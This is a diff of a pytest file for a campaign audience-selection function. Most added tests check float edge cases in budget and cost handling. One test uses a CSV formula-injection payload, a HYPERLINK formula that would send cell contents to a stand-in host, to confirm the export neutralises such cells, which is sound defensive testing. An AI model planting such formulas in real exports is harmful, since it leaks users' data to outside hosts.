@@ -233,6 +233,38 @@ def test_zero_budget_selects_nobody(scores, tiers):
     assert result.summary["spend"] == 0 and result.summary["expected_roi"] is None
 
 
+TINY = 5e-324  # the smallest positive float
+HUGE = 1.7976931348623157e308  # the largest
+
+
+@pytest.mark.parametrize("budget", [0.0, TINY, 1e-10, 2.5, 1e28, 1e29, 1e300, HUGE])
+@pytest.mark.parametrize("cost", [TINY, 1e-300, 0.1, 1e15, HUGE])
+@pytest.mark.parametrize("control_fraction", [0.0, TINY, 0.1, 0.5])
+def test_any_finite_money_gives_an_answer_capped_to_the_population(scores, tiers, budget, cost, control_fraction):
+    """Huge budgets and tiny costs used to raise decimal.DivisionImpossible (a 500 in the service)."""
+    spec = {"campaign_id": "edge", "objective": "retain", "budget": budget, "cost_per_contact": cost,
+            "control_fraction": control_fraction}
+    result = select_audience(scores, tiers, spec)
+    s = result.summary
+    candidates = s["population"] - sum(v for k, v in s["excluded"].items() if k not in ("budget", "max_contacts"))
+    assert 0 <= s["audience"] <= candidates
+    assert Decimal(repr(s["spend"])) <= Decimal(repr(budget))
+    assert s["treatment"] == (result.audience["group"] == "treatment").sum()
+    for key in ("spend", "unit_cost", "expected_incremental_value", "expected_net_value", "budget"):
+        assert np.isfinite(s[key]), key
+    assert s["expected_roi"] is None or np.isfinite(s["expected_roi"])
+    if Decimal(repr(budget)) >= Decimal(repr(cost)) * candidates:  # pays for everyone: capped to the candidates
+        assert s["audience"] == candidates and s["excluded"]["budget"] == 0
+
+
+def test_roi_beyond_float_range_is_null_not_infinite(scores, tiers):
+    spec = {"campaign_id": "roi", "objective": "retain", "budget": TINY, "cost_per_contact": TINY,
+            "control_fraction": 0.0}
+    s = select_audience(scores, tiers, spec).summary
+    assert s["treatment"] == 1 and s["spend"] == TINY and s["expected_net_value"] > 0
+    assert s["expected_roi"] is None
+
+
 def test_properties_over_random_campaigns():
     """Never over budget, control size exact, stable split, no opt-outs, filters respected, closed accounting."""
     rng = np.random.default_rng(2024)
@@ -336,6 +368,19 @@ def test_csv_export_round_trips(scores, tiers):
     assert "重要" in text or "一般" in text  # Chinese names survive as UTF-8
 
 
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(scores, tiers):
+    """A campaign_id (given by the caller) or a segment name starting with = + - @ tab CR is neutralised."""
+    attack = '=HYPERLINK("http://x.test/?"&A1,"open")'
+    renamed = scores.assign(rfm_segment_en=np.where(np.arange(len(scores)) % 2 == 0, "@SUM(1+1)", "-2+3"))
+    result = select_audience(renamed, tiers, {"campaign_id": attack, "objective": "retain", "budget": 50,
+                                              "cost_per_contact": 1})
+    back = pd.read_csv(io.StringIO(to_csv(result)), keep_default_na=False)
+    assert (back["campaign_id"] == "'" + attack).all()
+    assert set(back["rfm_segment_en"]) == {"'@SUM(1+1)", "'-2+3"}
+    assert (result.audience["campaign_id"] == attack).all()  # the JSON answer keeps the value as given
+    assert back["expected_net_value"].dtype == float  # numbers stay numbers
+
+
 def test_to_csv_writes_file(scores, tiers, tmp_path):
     result = select_audience(
         scores, tiers, {"campaign_id": "f", "objective": "retain", "budget": 50, "cost_per_contact": 1}
@@ -351,6 +396,7 @@ def test_to_csv_writes_file(scores, tiers, tmp_path):
         ({"budget": float("inf")}, "budget"),
         ({"objective": "spam"}, "objective"),
         ({"cost_per_contact": 0}, "cost_per_contact"),
+        ({"cost_per_contact": 1.7e308, "offer_cost": 1e308}, "offer_cost"),  # unit cost beyond float range
         ({"control_fraction": 0.6}, "control_fraction"),
         ({"max_contacts": -3}, "max_contacts"),
         ({"campaign_id": "  "}, "campaign_id"),
